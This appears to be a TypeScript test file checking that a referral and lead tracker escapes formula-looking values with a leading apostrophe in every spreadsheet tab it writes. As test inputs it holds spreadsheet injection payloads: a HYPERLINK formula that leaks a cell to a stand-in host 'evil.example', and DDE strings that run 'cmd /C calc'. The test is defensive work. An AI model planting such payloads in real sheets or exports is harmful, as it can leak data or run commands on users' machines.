import { REFERRAL_COLUMNS, type Referral } from '../../nodes/core';
import { tabByKey, type TabKey } from '../../nodes/tracker/template';
import type { SheetsStandIn } from '../../sandbox/sheets';
import { SERVICE_ACCOUNT, makeLead, startTrackerStandIn, trackerAt } from '../support/trackerHarness';

/**
 * One escaping rule for every cell the pack writes: a value that starts with = + - @, a tab or a
 * CR lands as text with a leading apostrophe (so a CSV or Excel export of any tab never runs it),
 * in every tab and in a partner's own sheet, and reads back as it was typed.
 */
const NOW = '2026-12-08T15:00:00.000Z';
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
const DDE = '=cmd|\' /C calc\'!A0';
const AT = '@SUM(1+1)*cmd|\' /C calc\'!A0';

let standIn: SheetsStandIn;
let url: string;
let close: () => Promise<void>;
let trackerId: string;
let viewId: string;

const tab = (key: TabKey) => tabByKey(key).title;
/** Every stored text cell of a tab that starts like a formula (plain numbers such as "+1305..." are not). */
const unescaped = (spreadsheetId: string, title: string) =>
	standIn
		.readCells(spreadsheetId, title)
		.flat()
		.filter((cell) => (cell !== null && typeof cell === 'object') || (typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)));
const column = (spreadsheetId: string, title: string, name: string) => {
	const [header = [], ...rows] = standIn.readTab(spreadsheetId, title);
	return rows.map((row) => row[header.indexOf(name)] ?? '');
};

function referral(overrides: Partial<Referral>): Referral {
	const blank = Object.fromEntries(REFERRAL_COLUMNS.map((name) => [name, null])) as unknown as Referral;
	return { ...blank, referralId: 'R-1', partnerId: 'p-sunrise', leadId: 'ld_0000001', status: 'received', receivedAt: NOW, lastChangeAt: NOW, ...overrides };
}

beforeEach(async () => {
	({ standIn, url, close } = await startTrackerStandIn());
	viewId = standIn.createSpreadsheet({ title: 'Referrals with Sam', sharedWith: [SERVICE_ACCOUNT], sheets: [{ title: 'My referrals' }] });
	trackerId = standIn.createSpreadsheet({
		title: 'Tracker',
		sharedWith: [SERVICE_ACCOUNT],
		sheets: [
			{ title: tab('partners'), rows: [['partnerId', 'name', 'email', 'viewSpreadsheetId'], ['p-sunrise', '=HYPERLINK("https://evil.example","Dana")', 'dana@sunrise.example', viewId]] },
			{ title: tab('referrals'), rows: [[...REFERRAL_COLUMNS]] },
		],
	});
	await tracker().create();
});
afterEach(() => close());

const tracker = () => trackerAt(url, trackerId, NOW);

describe('every tab the pack writes keeps a formula-looking value as text', () => {
	it('Leads: names, source and notes from a lead source', async () => {
		await tracker().upsertLeads([makeLead(1, { firstName: FORMULA, source: DDE, sourceDetail: AT })]);
		expect(column(trackerId, tab('leads'), 'firstName')).toEqual([`'${FORMULA}`]);
		expect(column(trackerId, tab('leads'), 'source')).toEqual([`'${DDE}`]);
		expect(column(trackerId, tab('leads'), 'phone')).toEqual(['+13050000001']);
		expect(unescaped(trackerId, tab('leads'))).toEqual([]);
	});

	it('Touches: a logged body and error', async () => {
		await tracker().upsertLeads([makeLead(1)]);
		await tracker().logTouches([{ leadId: 'ld_0000001', touchId: 't-1', channel: 'sms', verdict: 'sent', body: DDE, error: AT, at: NOW }]);
		expect(column(trackerId, tab('touches'), 'body')).toEqual([`'${DDE}`]);
		expect(unescaped(trackerId, tab('touches'))).toEqual([]);
	});

	it('Touches and Consent log: the exact words of a reply', async () => {
		await tracker().upsertLeads([makeLead(1)]);
		await tracker().recordReplies([{ leadId: 'ld_0000001', channel: 'sms', words: 'STOP', at: NOW, eventId: 'SM1', source: DDE, kind: 'auto' }]);
		await tracker().recordReplies([{ leadId: 'ld_0000001', channel: 'sms', words: FORMULA, at: NOW, eventId: 'SM2', source: 'sms', kind: 'auto' }]);
		expect(unescaped(trackerId, tab('touches'))).toEqual([]);
		expect(unescaped(trackerId, tab('consent'))).toEqual([]);
		expect(standIn.readTab(trackerId, tab('consent')).flat()).toContain(`'${DDE}`);
	});

	it('Settings and Cadences as Create Tracker writes them', () => {
		expect(unescaped(trackerId, tab('settings'))).toEqual([]);
		expect(unescaped(trackerId, tab('cadences'))).toEqual([]);
	});

	it('Referrals: the source and next step of a new and an updated referral, and the LO\'s own columns kept as typed', async () => {
		const referrals = tracker().referrals({ timeZone: 'America/New_York', loanOfficerName: 'Sam Reed' });
		await referrals.open(async () => ({ opened: [referral({ source: FORMULA, nextStep: DDE, firstName: AT })], result: null }));
		expect(column(trackerId, tab('referrals'), 'source')).toEqual([`'${FORMULA}`]);
		expect(column(trackerId, tab('referrals'), 'nextStep')).toEqual([`'${DDE}`]);

		// Read back as typed: an update rewrites the row, and nothing gains a second apostrophe.
		await referrals.update(async (run) => {
			const [row] = run.tracked;
			expect(row.referral?.source).toBe(FORMULA);
			return { changed: new Map([[row.index, { ...row.referral!, status: 'contacted', contactedAt: NOW, nextStep: AT }]]), result: null };
		});
		expect(column(trackerId, tab('referrals'), 'source')).toEqual([`'${FORMULA}`]);
		expect(column(trackerId, tab('referrals'), 'nextStep')).toEqual([`'${AT}`]);
		expect(unescaped(trackerId, tab('referrals'))).toEqual([]);

		// The partner's own sheet: the next step they read.
		await referrals.syncViews(await referrals.read());
		expect(column(viewId, 'My referrals', 'Next step')).toEqual([`'${AT}`]);
		expect(unescaped(viewId, 'My referrals')).toEqual([]);
	});

	it('Scoreboard: partner names from the Partners tab and lead sources from Leads', async () => {
		await tracker().upsertLeads([makeLead(1, { source: DDE, partnerId: 'p-sunrise', receivedAt: '2026-12-07T15:00:00.000Z' })]);
		const referrals = tracker().referrals({ timeZone: 'America/New_York', loanOfficerName: 'Sam Reed' });
		await referrals.open(async () => ({ opened: [referral({ source: DDE, receivedAt: '2026-12-07T15:00:00.000Z' })], result: null }));
		await referrals.writeScoreboard({ from: '2026-12-01T05:00:00.000Z', to: '2026-12-09T05:00:00.000Z', addChart: false });
		const cells = standIn.readTab(trackerId, 'Scoreboard').flat();
		expect(cells).toContain(`'${DDE}`);
		expect(cells).toContain('\'=HYPERLINK("https://evil.example","Dana")');
		expect(unescaped(trackerId, 'Scoreboard')).toEqual([]);
	});
});
